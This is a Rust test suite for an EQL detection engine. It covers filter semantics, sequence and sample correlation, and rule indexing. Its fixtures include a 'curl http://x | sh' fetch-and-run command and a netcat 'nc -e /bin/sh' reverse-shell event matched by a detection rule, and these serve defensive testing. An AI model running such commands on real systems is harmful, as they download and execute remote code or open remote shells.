//! EQL semantics, point by point, as the ES EQL reference defines them.

use auditwatch::detect::eql::{self, FieldIndex, Filter, Limits, QueryKind, Runtime};
use auditwatch::detect::expr::{CmpOp, Expr};
use auditwatch::event::{Event, Value};
use std::sync::Arc;

fn ev(ts: i64, fields: &[(&str, Value)]) -> Event {
    let mut e = Event::new(ts);
    for (k, v) in fields {
        e.set(k.to_string(), v.clone());
    }
    e
}

fn s(x: &str) -> Value {
    Value::Str(x.into())
}

fn list(xs: &[&str]) -> Value {
    Value::List(xs.iter().map(|x| s(x)).collect())
}

fn m(cond: &str, e: &Event) -> bool {
    Filter::parse(cond)
        .unwrap_or_else(|err| panic!("{cond}: {err}"))
        .matches(e)
}

fn bash() -> Event {
    ev(
        0,
        &[
            ("event.category", list(&["process"])),
            ("process.name", s("bash")),
            ("process.executable", s("/usr/bin/Bash")),
            ("process.args", list(&["bash", "-c", "curl http://x | sh"])),
            ("process.pid", Value::Int(42)),
            ("source.ip", s("10.1.2.3")),
            ("destination.ip", s("fe80::1")),
        ],
    )
}

#[test]
fn multi_valued_field_matches_if_any_value_does() {
    let e = bash();
    assert!(m(r#"process.args == "-c""#, &e));
    assert!(m(r#"process.args : "CURL*""#, &e));
    assert!(m(r#"process.args in ("x", "-c")"#, &e));
    assert!(!m(r#"process.args == "-x""#, &e));
    // `!=` is the complement of `==`: false as soon as one value equals.
    assert!(!m(r#"process.args != "-c""#, &e));
    assert!(m(r#"process.args != "-x""#, &e));
    assert!(m(r#"startsWith(process.args, "curl")"#, &e));
    assert!(m(r#"length(process.args) == 2"#, &e));
}

#[test]
fn missing_fields_satisfy_negations() {
    let e = bash();
    assert!(!m(r#"user.name == "root""#, &e));
    assert!(m(r#"user.name != "root""#, &e));
    assert!(m(r#"not user.name == "root""#, &e));
    assert!(m(r#"user.name not in ("root", "admin")"#, &e));
    assert!(!m(r#"user.name in ("root", "admin")"#, &e));
    assert!(m(r#"not user.name : "r*""#, &e));
    assert!(m(r#"not startsWith(user.name, "r")"#, &e));
    assert!(!m(r#"user.name < "z""#, &e));
}

#[test]
fn null_means_absent() {
    let e = bash();
    assert!(m("user.name == null", &e));
    assert!(!m("user.name != null", &e));
    assert!(m("process.name != null", &e));
    assert!(!m("process.name == null", &e));
    assert!(m("null == user.name", &e));
    // An explicit null and an empty list are absent too.
    let n = ev(
        0,
        &[("user.name", Value::Null), ("tags", Value::List(vec![]))],
    );
    assert!(m("user.name == null and tags == null", &n));
}

#[test]
fn case_rules() {
    let e = bash();
    assert!(!m(r#"process.name == "BASH""#, &e));
    assert!(m(r#"process.name : "BASH""#, &e));
    assert!(!m(r#"process.name in ("BASH")"#, &e));
    assert!(m(r#"process.name in~ ("BASH")"#, &e));
    assert!(!m(r#"process.executable like "/usr/bin/bash""#, &e));
    assert!(m(r#"process.executable like~ "/USR/bin/bash""#, &e));
    assert!(!m(r#"process.executable regex "/usr/bin/bash""#, &e));
    assert!(m(r#"process.executable regex~ "/usr/bin/bash""#, &e));
    assert!(!m(r#"startsWith(process.executable, "/USR")"#, &e));
    assert!(m(r#"startsWith~(process.executable, "/USR")"#, &e));
    assert!(m(r#"endsWith~(process.executable, "BASH")"#, &e));
    assert!(m(r#"stringContains~(process.executable, "BIN/b")"#, &e));
    assert!(!m(r#"stringContains(process.executable, "BIN/b")"#, &e));
    // Non-ASCII folding.
    let u = ev(0, &[("file.name", s("ÄRGER.txt"))]);
    assert!(m(r#"file.name : "ärger.*""#, &u));
    assert!(!m(r#"file.name like "ärger.*""#, &u));
}

#[test]
fn function_names_are_case_insensitive() {
    let e = bash();
    assert!(m(r#"cidrmatch(source.ip, "10.0.0.0/8")"#, &e));
    assert!(m(r#"CIDRMATCH(source.ip, "10.0.0.0/8")"#, &e));
    assert!(m(r#"stringcontains(process.name, "as")"#, &e));
    assert!(m(r#"STARTSWITH~(process.name, "BA")"#, &e));
}

#[test]
fn wildcards_are_anchored_star_and_question_only() {
    let e = bash();
    assert!(!m(r#"process.executable like "bash""#, &e));
    assert!(m(r#"process.executable like "*Bash""#, &e));
    assert!(m(r#"process.executable like "/usr/???/Bash""#, &e));
    assert!(!m(r#"process.executable like "/usr/??/Bash""#, &e));
    assert!(m(r#"process.executable like "/usr/*/B*h""#, &e));
    assert!(!m(r#"process.executable like "/usr/*/B*x""#, &e));
    // No escape character: a backslash is literal, regex syntax is literal.
    let w = ev(0, &[("file.path", s(r"C:\Windows\x.[a]"))]);
    assert!(m(r#"file.path like "C:\\Windows\\*""#, &w));
    assert!(m(r#"file.path : "*.[a]""#, &w));
    assert!(!m(r#"file.path : "*.a""#, &w));
    // `:` without wildcards is equality; `==` never expands wildcards.
    assert!(!m(r#"process.name == "ba*""#, &e));
    assert!(m(r#"process.name : ("zsh", "ba*")"#, &e));
}

#[test]
fn regex_is_anchored() {
    let e = bash();
    assert!(!m(r#"process.name regex "as""#, &e));
    assert!(m(r#"process.name regex ".as.""#, &e));
    assert!(m(r#"process.name regex ("zsh", "b[a-z]+")"#, &e));
    let err = eql::parse(r#"process where process.name regex "(""#).unwrap_err();
    assert!(err.message.contains("regular expression"), "{err}");
}

#[test]
fn cidr_match_ipv4_and_ipv6() {
    let e = bash();
    assert!(m(
        r#"cidrMatch(source.ip, "192.168.0.0/16", "10.1.0.0/16")"#,
        &e
    ));
    assert!(!m(r#"cidrMatch(source.ip, "10.2.0.0/16")"#, &e));
    assert!(m(r#"cidrMatch(destination.ip, "fe80::/10")"#, &e));
    assert!(!m(r#"cidrMatch(destination.ip, "10.0.0.0/8")"#, &e));
    assert!(m(r#"cidrMatch(source.ip, "10.1.2.3")"#, &e));
    assert!(eql::parse(r#"any where cidrMatch(source.ip, "10.0.0.0/33")"#).is_err());
}

#[test]
fn functions_and_arithmetic() {
    let e = bash();
    assert!(m(r#"substring(process.name, 1, 3) == "as""#, &e));
    assert!(m(r#"substring(process.name, -2) == "sh""#, &e));
    assert!(m(
        r#"concat(process.name, ":", process.pid) == "bash:42""#,
        &e
    ));
    assert!(m(
        r#"between(process.executable, "/usr/", "/") == "bin""#,
        &e
    ));
    assert!(m(r#"indexOf(process.name, "s") == 2"#, &e));
    assert!(m(r#"number("0x2a", 16) == process.pid"#, &e));
    assert!(m(r#"string(process.pid) == "42""#, &e));
    assert!(m(
        "add(process.pid, 1) == 43 and subtract(process.pid, 2) == 40",
        &e
    ));
    assert!(m("multiply(process.pid, 2) == 84 and divide(process.pid, 5) == 8 and modulo(process.pid, 5) == 2", &e));
    assert!(m(
        "process.pid * 2 + 1 == 85 and -process.pid < 0 and process.pid % 10 == 2",
        &e
    ));
    assert!(m("process.pid / 4.0 == 10.5", &e));
    // Functions of a missing field are null: neither equal nor unequal via ==.
    assert!(!m(r#"length(user.name) == 0"#, &e));
    assert!(m(r#"length(user.name) == null"#, &e));
}

#[test]
fn numbers_and_comparisons() {
    let e = bash();
    assert!(m(
        "process.pid == 42 and process.pid >= 42 and process.pid < 42.5",
        &e
    ));
    assert!(m("process.pid in (1, 42)", &e));
    assert!(m(r#"process.name > "a" and process.name < "c""#, &e));
    assert!(m("42 == process.pid", &e));
    assert!(m("process.pid != 41", &e));
}

#[test]
fn syntax_strings_comments_and_errors() {
    let e = bash();
    assert!(m(r#"process.name == "ba\u{73}h" // trailing comment"#, &e));
    assert!(m("/* block */ process.name == \"\"\"bash\"\"\"", &e));
    let w = ev(0, &[("file.path", s(r"C:\a"))]);
    assert!(m(r#"file.path == """C:\a""""#, &w));
    assert!(m(r#"`file.path` == "C:\\a""#, &w));
    let odd = ev(0, &[("my field", s("x"))]);
    assert!(m("`my field` == \"x\"", &odd));
    // Single quotes are an error in ES, with a position.
    let err = eql::parse("process where\n  process.name == 'bash'").unwrap_err();
    assert_eq!((err.line, err.col), (2, 19), "{err}");
    assert!(err.message.contains("double quotes"));
    let err = eql::parse("process where nosuch(process.name)").unwrap_err();
    assert_eq!((err.line, err.col), (1, 15));
    let err = eql::parse("process where process.name = \"x\"").unwrap_err();
    assert_eq!((err.line, err.col), (1, 28));
    assert!(eql::parse("process where true | sort x")
        .unwrap_err()
        .message
        .contains("not supported"));
    assert!(eql::parse("process where length(process.name, 1)").is_err());
    assert!(eql::parse("process where length~(process.name) > 1").is_err());
}

#[test]
fn optional_fields_parse_and_are_null_when_absent() {
    let e = bash();
    assert!(m("?user.name == null", &e));
    assert!(m(r#"?process.name == "bash""#, &e));
    // Both absent optional fields compare equal (ES replaces them with null).
    assert!(m("?a.b == ?c.d", &e));
    assert!(!m("a.b == c.d", &e));
}

#[test]
fn filter_compiles_shared_expr_tree() {
    // What the KQL parser produces.
    let expr = Expr::And(vec![
        Expr::Compare {
            op: CmpOp::Eq,
            left: Box::new(Expr::field("process.name")),
            right: Box::new(Expr::string("bash")),
        },
        Expr::Not(Box::new(Expr::field("user.name").eq_null())),
    ]);
    let f = Filter::compile(&expr).unwrap();
    assert!(!f.matches(&bash()));
    let mut e = bash();
    e.set("user.name", "root");
    assert!(f.matches(&e));
    // One index shared by many filters.
    let mut index = FieldIndex::new();
    let ix = index.index(&e);
    assert!(f.matches_indexed(&ix));
    assert!(Filter::parse(r#"user.name : "ROOT""#)
        .unwrap()
        .matches_indexed(&ix));
    assert!(Filter::compile(&Expr::Call {
        name: "nosuch".into(),
        insensitive: false,
        args: vec![]
    })
    .is_err());
}

trait EqNull {
    fn eq_null(self) -> Expr;
}
impl EqNull for Expr {
    fn eq_null(self) -> Expr {
        Expr::Compare {
            op: CmpOp::Eq,
            left: Box::new(self),
            right: Box::new(Expr::Literal(Value::Null)),
        }
    }
}

// ---- sequences ------------------------------------------------------------------------------

struct Run {
    rt: Runtime,
    arrival: u64,
}

impl Run {
    fn new(q: &str, limits: Limits) -> Run {
        Run {
            rt: Runtime::new(
                Arc::new(eql::parse(q).unwrap_or_else(|e| panic!("{q}: {e}"))),
                limits,
            ),
            arrival: 0,
        }
    }
    /// Feeds one event; returns the `id`s of each completed match.
    fn feed(&mut self, ts: i64, fields: &[(&str, Value)]) -> Vec<Vec<i64>> {
        let mut e = ev(ts, fields);
        self.arrival += 1;
        e.arrival = self.arrival;
        let mut out = vec![];
        self.rt.on_event(&Arc::new(e), &mut out);
        out.iter()
            .map(|m| {
                m.iter()
                    .map(|e| e.get("id").and_then(Value::as_i64).unwrap_or(-1))
                    .collect()
            })
            .collect()
    }
}

fn p(id: i64, name: &str, pid: Option<i64>) -> Vec<(&'static str, Value)> {
    let mut f = vec![
        ("event.category", s("process")),
        ("id", Value::Int(id)),
        ("name", s(name)),
    ];
    if let Some(pid) = pid {
        f.push(("pid", Value::Int(pid)));
    }
    f
}

#[test]
fn sequence_kind_and_accessors() {
    let q = eql::parse("sequence by pid with maxspan=2m [process where name == \"a\"] [file where true] with runs=2").unwrap();
    assert_eq!(q.kind(), QueryKind::Sequence);
    assert_eq!(q.maxspan_ms(), Some(120_000));
    assert_eq!(q.stages().len(), 3);
    assert_eq!(q.categories(), Some(vec!["process", "file"]));
    assert_eq!(eql::parse("any where true").unwrap().categories(), None);
    for (src, ms) in [
        ("500ms", 500),
        ("3s", 3000),
        ("2h", 7_200_000),
        ("1d", 86_400_000),
    ] {
        let q = eql::parse(&format!(
            "sequence with maxspan={src} [a where true] [b where true]"
        ))
        .unwrap();
        assert_eq!(q.maxspan_ms(), Some(ms));
    }
    assert!(eql::parse("sequence with maxspan=5 [a where true] [b where true]").is_err());
    assert!(eql::parse("sequence [a where true]").is_err());
}

#[test]
fn maxspan_boundary_is_inclusive() {
    let q = r#"sequence with maxspan=10s [process where name == "a"] [process where name == "b"]"#;
    let mut r = Run::new(q, Limits::default());
    assert!(r.feed(1000, &p(1, "a", None)).is_empty());
    assert_eq!(r.feed(11_000, &p(2, "b", None)), vec![vec![1, 2]]);
    let mut r = Run::new(q, Limits::default());
    r.feed(1000, &p(1, "a", None));
    assert!(r.feed(11_001, &p(2, "b", None)).is_empty());
}

#[test]
fn newest_partial_replaces_older_and_order_is_strict() {
    let q = r#"sequence [process where name == "a"] [process where name == "b"]"#;
    let mut r = Run::new(q, Limits::default());
    r.feed(1, &p(1, "a", None));
    r.feed(2, &p(2, "a", None));
    assert_eq!(r.feed(3, &p(3, "b", None)), vec![vec![2, 3]]);
    // The partial was consumed.
    assert!(r.feed(4, &p(4, "b", None)).is_empty());
    // Same timestamp: arrival breaks the tie.
    r.feed(5, &p(5, "a", None));
    assert_eq!(r.feed(5, &p(6, "b", None)), vec![vec![5, 6]]);
    // An event never follows itself, even when it matches both stages.
    let mut r = Run::new(
        "sequence [process where true] [process where true]",
        Limits::default(),
    );
    assert!(r.feed(1, &p(1, "x", None)).is_empty());
    assert_eq!(r.feed(2, &p(2, "x", None)), vec![vec![1, 2]]);
    assert_eq!(r.feed(3, &p(3, "x", None)), vec![vec![2, 3]]);
    // An event earlier in time than the partial's last one cannot extend it.
    let mut r = Run::new(q, Limits::default());
    r.feed(10, &p(1, "a", None));
    assert!(r.feed(5, &p(2, "b", None)).is_empty());
}

#[test]
fn runs_repeat_a_stage() {
    let q =
        r#"sequence by pid [process where name == "a"] with runs=3 [process where name == "b"]"#;
    let mut r = Run::new(q, Limits::default());
    r.feed(1, &p(1, "a", Some(7)));
    r.feed(2, &p(2, "a", Some(7)));
    assert!(r.feed(3, &p(3, "b", Some(7))).is_empty());
    r.feed(4, &p(4, "a", Some(7)));
    r.feed(5, &p(5, "a", Some(7)));
    assert_eq!(r.feed(6, &p(6, "b", Some(7))), vec![vec![2, 4, 5, 6]]);
}

#[test]
fn until_kills_partials() {
    let q = r#"sequence by pid [process where name == "a"] [process where name == "b"] until [process where name == "stop"]"#;
    let mut r = Run::new(q, Limits::default());
    r.feed(1, &p(1, "a", Some(1)));
    r.feed(2, &p(2, "a", Some(2)));
    r.feed(3, &p(3, "stop", Some(1)));
    assert!(r.feed(4, &p(4, "b", Some(1))).is_empty());
    assert_eq!(r.feed(5, &p(5, "b", Some(2))), vec![vec![2, 5]]);
}

#[test]
fn null_join_keys_never_join_unless_optional() {
    let q = r#"sequence by pid [process where name == "a"] [process where name == "b"]"#;
    let mut r = Run::new(q, Limits::default());
    r.feed(1, &p(1, "a", None));
    assert!(r.feed(2, &p(2, "b", None)).is_empty());
    let q = r#"sequence by ?pid [process where name == "a"] [process where name == "b"]"#;
    let mut r = Run::new(q, Limits::default());
    r.feed(1, &p(1, "a", None));
    assert_eq!(r.feed(2, &p(2, "b", None)), vec![vec![1, 2]]);
    // An optional null key does not join a real value.
    r.feed(3, &p(3, "a", None));
    assert!(r.feed(4, &p(4, "b", Some(9))).is_empty());
}

#[test]
fn per_term_keys_and_multi_valued_keys() {
    let q = r#"sequence [process where name == "a"] by pid [process where name == "b"] by ppid"#;
    let mut r = Run::new(q, Limits::default());
    r.feed(1, &p(1, "a", Some(5)));
    let mut b = p(2, "b", Some(99));
    b.push(("ppid", Value::Int(5)));
    assert_eq!(r.feed(2, &b), vec![vec![1, 2]]);
    // A multi-valued key joins on each of its values.
    let q = r#"sequence by tags [process where name == "a"] [process where name == "b"]"#;
    let mut r = Run::new(q, Limits::default());
    let mut a = p(1, "a", None);
    a.push(("tags", list(&["x", "y"])));
    r.feed(1, &a);
    let mut b = p(2, "b", None);
    b.push(("tags", s("y")));
    assert_eq!(r.feed(2, &b), vec![vec![1, 2]]);
}

#[test]
fn missing_event_between_stages() {
    let q = r#"sequence by pid with maxspan=1m [process where name == "a"] ![process where name == "m"] [process where name == "b"]"#;
    let mut r = Run::new(q, Limits::default());
    r.feed(1, &p(1, "a", Some(1)));
    r.feed(2, &p(2, "m", Some(1)));
    assert!(r.feed(3, &p(3, "b", Some(1))).is_empty());
    r.feed(4, &p(4, "a", Some(1)));
    r.feed(5, &p(5, "m", Some(2)));
    assert_eq!(r.feed(6, &p(6, "b", Some(1))), vec![vec![4, -1, 6]]);
}

#[test]
fn trailing_missing_event_waits_for_the_window() {
    let q = r#"sequence with maxspan=10s [process where name == "a"] ![process where name == "m"]"#;
    let mut r = Run::new(q, Limits::default());
    assert!(r.feed(0, &p(1, "a", None)).is_empty());
    assert!(r.feed(5_000, &p(2, "x", None)).is_empty());
    assert_eq!(r.feed(10_001, &p(3, "x", None)), vec![vec![1, -1]]);
    r.feed(20_000, &p(4, "a", None));
    r.feed(25_000, &p(5, "m", None));
    assert!(r.feed(40_000, &p(6, "x", None)).is_empty());
    let mut out = vec![];
    r.rt.on_time(100_000, &mut out);
    assert!(out.is_empty());
}

#[test]
fn sequence_state_is_bounded() {
    let q = r#"sequence by pid [process where name == "a"] [process where name == "b"]"#;
    let mut r = Run::new(
        q,
        Limits {
            max_states: 10,
            window_ms: 1000,
        },
    );
    for i in 0..100 {
        r.feed(i, &p(i, "a", Some(i)));
    }
    assert_eq!(r.rt.dropped(), 90);
    assert!(r.feed(200, &p(200, "b", Some(5))).is_empty());
    assert_eq!(r.feed(201, &p(201, "b", Some(95))), vec![vec![95, 201]]);
    // maxspan expiry frees state without counting drops.
    let q = r#"sequence by pid with maxspan=10ms [process where name == "a"] [process where name == "b"]"#;
    let mut r = Run::new(
        q,
        Limits {
            max_states: 10,
            window_ms: 1000,
        },
    );
    for i in 0..100 {
        r.feed(i * 100, &p(i, "a", Some(i)));
    }
    assert_eq!(r.rt.dropped(), 0);
}

#[test]
fn head_pipe_caps_runtime_output() {
    let mut r = Run::new("process where true | head 2", Limits::default());
    let n: usize = (0..5).map(|i| r.feed(i, &p(i, "x", None)).len()).sum();
    assert_eq!(n, 2);
}

// ---- samples --------------------------------------------------------------------------------

#[test]
fn sample_needs_distinct_events_in_any_order() {
    let q = r#"sample by host [process where name == "a" or name == "ab"] [process where name == "b" or name == "ab"]"#;
    let limits = Limits {
        max_states: 100,
        window_ms: 60_000,
    };
    let mut r = Run::new(q, limits);
    let with_host = |id, name, host| {
        let mut f = p(id, name, None);
        f.push(("host", s(host)));
        f
    };
    // One event matching both filters is not a sample.
    assert!(r.feed(1, &with_host(1, "ab", "h1")).is_empty());
    // Second filter first, then the first: any time order.
    assert!(r.feed(2, &with_host(2, "b", "h2")).is_empty());
    assert_eq!(r.feed(3, &with_host(3, "a", "h2")), vec![vec![3, 2]]);
    // `ab` now pairs with a distinct `b`.
    assert_eq!(r.feed(4, &with_host(4, "b", "h1")), vec![vec![1, 4]]);
    // One alert per key within the look-back window.
    assert!(r.feed(5, &with_host(5, "a", "h2")).is_empty());
    assert!(r.feed(6, &with_host(6, "b", "h2")).is_empty());
    // After the window the key can alert again.
    r.feed(70_000, &with_host(7, "a", "h2"));
    assert_eq!(r.feed(70_001, &with_host(8, "b", "h2")), vec![vec![7, 8]]);
    // Events that left the window do not pair.
    r.feed(200_000, &with_host(9, "a", "h3"));
    assert!(r.feed(300_000, &with_host(10, "b", "h3")).is_empty());
}

#[test]
fn sample_state_is_bounded() {
    let q = r#"sample by host [process where name == "a"] [process where name == "b"]"#;
    let mut r = Run::new(
        q,
        Limits {
            max_states: 5,
            window_ms: 1_000_000,
        },
    );
    for i in 0..20 {
        let mut f = p(i, "a", None);
        f.push(("host", s(&format!("h{i}"))));
        r.feed(i, &f);
    }
    assert_eq!(r.rt.dropped(), 15);
    assert!(
        eql::parse("sample [a where true] [b where true]").is_err(),
        "sample needs keys"
    );
}

#[test]
fn rule_index_returns_only_rules_that_can_match() {
    let rules = [
        r#"process where process.name in ("nc", "ncat") and process.args == "-e""#,
        r#"process where process.name : "CURL" and user.id != "0""#,
        r#"process where startsWith(process.executable, "/tmp/")"#,
        r#"sequence by pid [process where process.name == "a"] [file where file.name == "b"]"#,
    ];
    let mut index = eql::RuleIndex::new();
    for r in rules {
        index.add_query(&eql::parse(r).unwrap());
    }
    // The `startsWith` rule has an anchor only on `event.category`.
    assert_eq!(index.unanchored(), 0);
    let mut fields = FieldIndex::new();
    let mut out = vec![];
    let mut cands = |e: &Event| {
        index.candidates(&fields.index(e), &mut out);
        out.clone()
    };
    let proc = |name: &str| {
        ev(
            0,
            &[
                ("event.category", list(&["process"])),
                ("process.name", s(name)),
            ],
        )
    };
    // Every exact condition of a clause must hold: `nc` without `-e` cannot match rule 0.
    assert_eq!(cands(&proc("nc")), vec![2]);
    let mut nc = proc("nc");
    nc.set("process.args", list(&["nc", "-e", "/bin/sh"]));
    assert_eq!(cands(&nc), vec![0, 2]);
    // `:` is case-insensitive in the index too.
    assert_eq!(cands(&proc("Curl")), vec![1, 2]);
    assert_eq!(cands(&proc("a")), vec![2, 3]);
    let file = ev(
        0,
        &[("event.category", list(&["file"])), ("file.name", s("b"))],
    );
    assert_eq!(cands(&file), vec![3]);
    assert!(cands(&ev(0, &[("event.category", list(&["network"]))])).is_empty());
}
